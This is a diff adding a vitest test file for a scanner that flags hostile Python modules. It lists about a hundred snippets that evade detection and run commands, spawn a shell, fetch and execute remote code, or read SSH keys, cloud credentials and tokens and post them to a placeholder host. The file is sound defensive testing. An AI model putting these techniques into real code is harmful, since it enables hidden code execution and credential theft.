@@ -1,0 +1,405 @@
+import { describe, expect, it } from 'vitest'
+import { DEFAULT_LIMITS } from '../../../base/limits.ts'
+import { readPythonModule } from '../../../formats/python/python.ts'
+import type { Severity } from '../../../model/severity.ts'
+import { judgePythonModule } from './judge-python-module.ts'
+
+/** Each technique by itself; what would run is harmless. The line is the one where it happens. */
+const CASES: readonly (readonly [technique: string, id: string, severity: Severity, line: number, source: string])[] = [
+  ['a call on import', 'code/command', 'critical', 2, "import os\nos.system('id')"],
+  ['an alias of the module', 'code/command', 'critical', 2, "import os as o\no.system('id')"],
+  ['an alias of the function', 'code/command', 'critical', 3, "from os import system as s\nt = s\nt('id')"],
+  ['the inner module', 'code/command', 'critical', 2, "import posix\nposix.system('id')"],
+  ['a decorator', 'code/command', 'critical', 2, 'import os\n@os.system\ndef f(): ...'],
+  ['a default argument', 'code/command', 'critical', 3, "import os\n\ndef f(x=os.system('id')): ..."],
+  ['an annotation', 'code/command', 'critical', 2, "import os\ndef f(x: os.system('id')): ..."],
+  ['a class body', 'code/command', 'critical', 3, "import os\nclass A:\n  x = os.system('id')"],
+  ['a base class', 'code/command', 'critical', 2, "import os\nclass A(os.system('id') or object): ..."],
+  [
+    'a metaclass',
+    'code/command',
+    'critical',
+    4,
+    "import os\nclass M(type):\n  def __new__(c, *a):\n    os.system('id')\nclass A(metaclass=M): ...",
+  ],
+  [
+    '__init_subclass__',
+    'code/command',
+    'critical',
+    4,
+    "import os\nclass B:\n  def __init_subclass__(c):\n    os.system('id')\nclass A(B): ...",
+  ],
+  [
+    '__set_name__',
+    'code/command',
+    'critical',
+    4,
+    "import os\nclass D:\n  def __set_name__(s, o, n):\n    os.system('id')\nclass A:\n  d = D()",
+  ],
+  [
+    'the module hook __getattr__',
+    'code/command',
+    'critical',
+    3,
+    "import os\ndef __getattr__(name):\n  os.system('id')",
+  ],
+  ['a function that is called', 'code/command', 'critical', 3, "import os\ndef f():\n  os.system('id')\nf()"],
+  [
+    'a function behind a function',
+    'code/command',
+    'critical',
+    3,
+    "import os\ndef f():\n  os.system('id')\ndef g(): f()\ng()",
+  ],
+  [
+    'a method of an instance',
+    'code/command',
+    'critical',
+    4,
+    "import os\nclass A:\n  def go(self):\n    os.system('id')\nA().go()",
+  ],
+  [
+    'a callback of a thread',
+    'code/command',
+    'critical',
+    4,
+    "import os, threading\n\ndef f():\n  os.system('id')\nthreading.Thread(target=f).start()",
+  ],
+  [
+    'a callback in a dict',
+    'code/command',
+    'critical',
+    3,
+    "import os, lib\ndef f():\n  os.system('id')\nlib.register({'on_load': f})",
+  ],
+  [
+    'a function handed to a thread',
+    'code/command',
+    'high',
+    2,
+    "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
+  ],
+  [
+    'a decorator of its own',
+    'code/command',
+    'critical',
+    4,
+    "import os\ndef now(f): f()\n@now\ndef f(): os.system('id')",
+  ],
+  ['a lambda', 'code/command', 'critical', 2, "import os\n(lambda c: os.system(c))('id')"],
+  ['a walrus', 'code/command', 'critical', 2, "import os\nif (s := os.system): s('id')"],
+  ['a comprehension', 'code/command', 'critical', 2, "import os\n[f('id') for f in [os.system]]"],
+  ['a dict of functions', 'code/command', 'critical', 3, "import os\nd = {'a': print, 'b': os.system}\nd['b']('id')"],
+  ['an f-string', 'code/command', 'critical', 1, "x = f\"{__import__('os').system('id')}\""],
+  [
+    'an alias by exception',
+    'code/command',
+    'critical',
+    5,
+    "try:\n  from commands import getoutput as g\nexcept ImportError:\n  from subprocess import getoutput as g\ng('id')",
+  ],
+  ['a star import', 'code/command', 'critical', 2, "from os import *\nsystem('id')"],
+  ['a loop over names', 'code/command', 'critical', 3, "import os\nfor n in ['sys' + 'tem']:\n  getattr(os, n)('id')"],
+  [
+    'a conditional import',
+    'code/command',
+    'critical',
+    3,
+    "import sys\nif sys.platform == 'linux':\n  __import__('os').system('id')",
+  ],
+  ['a try block', 'code/command', 'critical', 3, "try:\n  import os\n  os.system('id')\nexcept Exception:\n  pass"],
+  ['a match statement', 'code/command', 'critical', 4, "import os\nmatch 1:\n  case _:\n    os.system('id')"],
+  [
+    'a with statement',
+    'code/command',
+    'critical',
+    2,
+    "import subprocess\nwith subprocess.Popen(['id']) as p: p.wait()",
+  ],
+  [
+    'an assignment to the module',
+    'code/command',
+    'critical',
+    3,
+    "import os, torch\ntorch.f = os.system\n__import__('os').popen('id')",
+  ],
+  ['a returned function', 'code/command', 'critical', 4, "def f():\n  import os\n  return os.system\nf()('id')"],
+  ['partial', 'code/command', 'critical', 2, "import os, functools\nfunctools.partial(os.system, 'id')()"],
+  ['attrgetter', 'code/command', 'critical', 2, "import os, operator\noperator.attrgetter('system')(os)('id')"],
+  ['methodcaller', 'code/command', 'critical', 2, "import os, operator\noperator.methodcaller('system', 'id')(os)"],
+  ['__call__', 'code/command', 'critical', 2, "import os\nos.system.__call__('id')"],
+  ['getattr', 'code/command', 'critical', 2, "import os\ngetattr(os, 'system')('id')"],
+  ['getattr of a reversed name', 'code/command', 'critical', 2, "import os\ngetattr(os, 'metsys'[::-1])('id')"],
+  [
+    'getattr chains',
+    'code/command',
+    'critical',
+    1,
+    "getattr(getattr(__builtins__, '__imp' + 'ort__')('os'), 'po' + 'pen')('id')",
+  ],
+  ['object.__getattribute__', 'code/command', 'critical', 2, "import os\nobject.__getattribute__(os, 'system')('id')"],
+  ['vars', 'code/command', 'critical', 2, "import os\nvars(os)['system']('id')"],
+  ['__dict__', 'code/command', 'critical', 2, "import os\nos.__dict__['system']('id')"],
+  ['sys.modules', 'code/command', 'critical', 2, "import sys\nsys.modules['os'].system('id')"],
+  ['globals', 'code/command', 'critical', 2, "import os\nglobals()['os'].system('id')"],
+  [
+    'the builtins of globals',
+    'code/command',
+    'critical',
+    1,
+    "globals()['__builtins__']['__import__']('os').system('id')",
+  ],
+  ['importlib', 'code/command', 'critical', 2, "import importlib\nimportlib.import_module('o' + 's').system('id')"],
+  [
+    'importlib under another name',
+    'code/command',
+    'critical',
+    2,
+    "from importlib import import_module as im\nim(name='subprocess').call('id')",
+  ],
+  ['letters of a mathematical alphabet', 'code/command', 'critical', 2, "import os\nos.𝐬𝐲𝐬𝐭𝐞𝐦('id')"],
+  ['pty', 'code/command', 'critical', 2, "import pty\npty.spawn('/bin/sh')"],
+  [
+    'a coroutine',
+    'code/command',
+    'critical',
+    3,
+    "import asyncio\nasync def f():\n  await asyncio.create_subprocess_shell('id')\nasyncio.run(f())",
+  ],
+  ['Python 2', 'code/command', 'critical', 2, "print 'hello'\nexec 'import os; os.system(\"id\")'"],
+  ['text that is executed', 'code/command', 'critical', 2, '\nexec(\'import os\\nos.system("id")\')'],
+  ['compiled text', 'code/command', 'critical', 1, "eval(compile('__import__(\"os\").system(\"id\")', 'x', 'eval'))"],
+  [
+    '__reduce__',
+    'code/command',
+    'high',
+    4,
+    "import os\nclass A:\n  def __reduce__(self):\n    return os.system, ('id',)",
+  ],
+  ['a constructor', 'code/command', 'high', 4, "import os\nclass Model:\n  def __init__(self):\n    os.system('id')"],
+  [
+    'a pipe into a shell, in a method',
+    'code/command',
+    'high',
+    4,
+    "import os\nclass Model:\n  def forward(self, x):\n    os.system('curl http://a.example/x | sh')",
+  ],
+  ['code behind a form feed', 'code/command', 'critical', 4, "class A:\n  import os\n\f\n  os.system('id')"],
+  ['another module', 'code/command', 'critical', 2, "import torch\ntorch.serialization.os.system('id')"],
+  [
+    'the modules of another module',
+    'code/command',
+    'critical',
+    2,
+    "import os\nos.sys.modules['subprocess'].call('id')",
+  ],
+  ['sys.modules.get', 'code/command', 'critical', 2, "import sys\nsys.modules.get('os').system('id')"],
+  ['an operator method', 'code/command', 'high', 3, "import os\nclass A:\n  __add__ = os.system\nA() + 'id'"],
+  ['a copy of the names of a module', 'code/command', 'critical', 2, "import os\ndict(os.__dict__)['system']('id')"],
+  ['reduce', 'code/command', 'critical', 2, "import os, functools\nfunctools.reduce(getattr, ['system'], os)('id')"],
+  [
+    'a search through builtins',
+    'code/dynamic-import',
+    'high',
+    1,
+    "[f for n, f in vars(__builtins__).items() if n == NAME][0]('1')",
+  ],
+  [
+    'a search through a module',
+    'code/dynamic-import',
+    'medium',
+    2,
+    "import os, inspect\n[f for n, f in inspect.getmembers(os)][9]('id')",
+  ],
+  ['map over exec', 'code/dynamic-code', 'medium', 1, "list(map(exec, ['1']))"],
+  ['a loader', 'code/dynamic-import', 'high', 1, "__loader__.load_module('os').system('id')"],
+  ['the frame of the caller', 'code/internals', 'high', 2, "import sys\nsys._getframe().f_builtins['eval']('1')"],
+  ['carriage returns', 'code/command', 'critical', 2, "import os\ros.system('id')"],
+  [
+    'text that is decoded from base64',
+    'code/obfuscated',
+    'critical',
+    2,
+    `import base64\nexec(base64.b64decode('${Buffer.from("import os\nos.system('id')").toString('base64')}'))`,
+  ],
+  [
+    'what the decoded text does',
+    'code/command',
+    'critical',
+    2,
+    `import base64\nexec(base64.b64decode('${Buffer.from("import os\nos.system('id')").toString('base64')}'))`,
+  ],
+  [
+    'hexadecimal',
+    'code/obfuscated',
+    'critical',
+    1,
+    `exec(bytes.fromhex('${Buffer.from('import os').toString('hex')}'))`,
+  ],
+  ['rot13', 'code/obfuscated', 'critical', 2, "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))"],
+  ['characters', 'code/obfuscated', 'critical', 1, 'exec("".join(chr(c) for c in [112, 97, 115, 115]))'],
+  ['characters by map', 'code/obfuscated', 'critical', 1, 'exec("".join(map(chr, [112, 97, 115, 115])))'],
+  ['exclusive or', 'code/obfuscated', 'critical', 1, 'exec("".join(chr(c ^ 3) for c in [115, 98, 112, 112]))'],
+  [
+    'unreadable compressed text',
+    'code/obfuscated',
+    'critical',
+    2,
+    'import zlib, base64\nexec(zlib.decompress(base64.b64decode(DATA)))',
+  ],
+  ['marshal', 'code/obfuscated', 'critical', 2, "import marshal\nexec(marshal.loads(b'abc'))"],
+  ['a hidden attribute', 'code/obfuscated', 'high', 2, 'import os\ngetattr(os, bytes([115, 121, 115]).decode())'],
+  ['a hidden module', 'code/obfuscated', 'high', 1, '__import__("".join(map(chr, [111, 115])))'],
+  [
+    'text from the network',
+    'code/remote-code',
+    'critical',
+    2,
+    "import requests\nexec(requests.get('http://a.example/x').text)",
+  ],
+  [
+    'text from urllib',
+    'code/remote-code',
+    'critical',
+    2,
+    "from urllib.request import urlopen\nexec(urlopen('http://a.example/x').read().decode())",
+  ],
+  ['torch.hub', 'code/remote-code', 'critical', 2, "import torch\ntorch.hub.load('a/b', 'm')"],
+  ['text of unknown origin', 'code/dynamic-code', 'high', 1, "exec(open('weights.txt').read())"],
+  ['runpy', 'code/dynamic-code', 'high', 2, "import runpy\nrunpy.run_path('x.bin')"],
+  ['code objects', 'code/dynamic-code', 'high', 2, 'import types\ntypes.FunctionType(c, globals())()'],
+  ['ctypes', 'code/native', 'critical', 2, "import ctypes\nctypes.CDLL('./x.so').run()"],
+  ['ctypes by attribute', 'code/native', 'critical', 2, "import ctypes\nctypes.cdll.LoadLibrary('x.so')"],
+  ['a torch operator library', 'code/native', 'critical', 2, "import torch\ntorch.ops.load_library('x.so')"],
+  [
+    'compiled C++',
+    'code/native',
+    'critical',
+    2,
+    "from torch.utils.cpp_extension import load_inline\nload_inline(name='x', cpp_sources=['int f();'])",
+  ],
+  ['a socket', 'code/network', 'high', 2, "import socket\ns = socket.socket(); s.connect(('a.example', 1))"],
+  ['a request', 'code/network', 'high', 2, "import requests\nrequests.get('http://a.example')"],
+  [
+    'pip',
+    'code/install',
+    'critical',
+    2,
+    "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])",
+  ],
+  ['pip as a library', 'code/install', 'critical', 2, "from pip._internal import main\nmain(['install', 'x'])"],
+  ['an import hook', 'code/persistence', 'high', 2, 'import sys\nsys.meta_path.insert(0, object())'],
+  ['a replaced builtin', 'code/persistence', 'high', 3, 'import builtins\n\nbuiltins.open = f'],
+  ['a replaced builtin by setattr', 'code/persistence', 'high', 2, "import os\nsetattr(os, 'open', f)"],
+  [
+    'a start file',
+    'code/persistence',
+    'critical',
+    2,
+    "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')",
+  ],
+  ['a preloaded library', 'code/persistence', 'medium', 2, "import os\nos.environ['LD_PRELOAD'] = 'x.so'"],
+  ['a private key', 'code/secrets', 'critical', 1, "open('/home/u/.ssh/id_rsa').read()"],
+  [
+    'credentials of a cloud',
+    'code/secrets',
+    'critical',
+    2,
+    "from pathlib import Path\n(Path.home() / 'x', Path('~/.aws/credentials').read_text())",
+  ],
+  ['all environment variables', 'code/secrets', 'medium', 2, 'import os\nx = dict(os.environ)'],
+  [
+    'the environment sent away',
+    'code/exfiltration',
+    'critical',
+    2,
+    "import os, requests\nrequests.post('http://a.example', json=dict(os.environ))",
+  ],
+  [
+    'the environment sent away by a method',
+    'code/exfiltration',
+    'high',
+    4,
+    "import os, requests\nclass M:\n  def forward(self):\n    requests.post('http://a.example', json=dict(os.environ))",
+  ],
+  [
+    'a key sent away by the address',
+    'code/exfiltration',
+    'high',
+    2,
+    "import os, urllib.request\nurllib.request.urlopen('http://a.example/?' + os.environ['HF_TOKEN'])",
+  ],
+  ['a pickle in the source', 'code/deserialisation', 'critical', 2, "import pickle\npickle.loads(b'cos\\nsystem\\n.')"],
+  ['a pickle beside it', 'code/deserialisation', 'high', 2, "import pickle\npickle.load(open('x.pkl', 'rb'))"],
+  [
+    'torch.load without protection',
+    'code/deserialisation',
+    'high',
+    2,
+    "import torch\ntorch.load('x.bin', weights_only=False)",
+  ],
+  [
+    'yaml without a safe loader',
+    'code/deserialisation',
+    'medium',
+    2,
+    "import yaml\nyaml.load(open('x.yaml'), Loader=yaml.Loader)",
+  ],
+  ['all classes there are', 'code/internals', 'high', 1, "().__class__.__base__.__subclasses__()[9]('id')"],
+  [
+    'the globals of a class',
+    'code/internals',
+    'high',
+    1,
+    "[c for c in ''.__class__.__mro__[1].__subclasses__()][7].__init__.__globals__['sys']",
+  ],
+  ['a replaced body', 'code/internals', 'high', 2, 'def f(): ...\nf.__code__ = g.__code__'],
+  ['a computed import', 'code/dynamic-import', 'critical', 1, "__import__(NAME).system('id')"],
+  ['a computed attribute', 'code/dynamic-import', 'high', 2, "import os\ngetattr(os, NAME)('id')"],
+  [
+    'trust passed on',
+    'code/trust',
+    'medium',
+    2,
+    "from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=True)",
+  ],
+  ['lines that are not Python', 'code/not-inspected', 'high', 2, 'x = 1\neval(] "1")'],
+  ['a bracket that is never closed', 'code/not-inspected', 'medium', 1, 'x = (1,\nimport os'],
+  ['a null byte', 'code/not-inspected', 'medium', 1, 'x = 1\0\ny = 2'],
+]
+
+describe('hostile modules', () => {
+  it.each(CASES)('%s: %s', (_, id, severity, line, source) => {
+    const found = judgePythonModule(readPythonModule(source, DEFAULT_LIMITS))
+    expect(found.map((one) => `${one.id} ${one.severity} ${one.where.inside}`)).toContain(
+      `${id} ${severity} line ${line}`,
+    )
+  })
+
+  it('is one observation for each ability and name', () => {
+    const source = `import os\n${"os.system('id')\n".repeat(3000)}`
+    const [only, ...more] = judgePythonModule(readPythonModule(source, DEFAULT_LIMITS))
+    expect(more).toEqual([])
+    expect(only?.globals).toEqual(['os.system'])
+    expect(only?.code?.statement).toBe("os.system('id')")
+    expect(only?.why).toContain('2995 more places')
+  })
+
+  it('says when: with trust, and in which function', () => {
+    const [only] = judgePythonModule(
+      readPythonModule("import os\nclass M:\n  def f(self): os.system('id')", DEFAULT_LIMITS),
+    )
+    expect(only).toMatchObject({ when: 'with-trust', severity: 'medium', cwe: 'CWE-78' })
+    expect(only?.why).toContain('`M.f`')
+  })
+
+  it.each(['utf-7', 'rot13', 'unicode_escape', 'utf_16', 'punycode', 'iso2022_jp', 'hz', 'idna', 'undefined'])(
+    'does not call a source in %s clean',
+    (encoding) => {
+      const bytes = Buffer.from(`# -*- coding: ${encoding} -*-\nx = 1\n`)
+      expect(
+        judgePythonModule(readPythonModule(bytes, DEFAULT_LIMITS)).map(({ id, severity }) => `${id} ${severity}`),
+      ).toEqual(['code/not-inspected high'])
+    },
+  )
+})
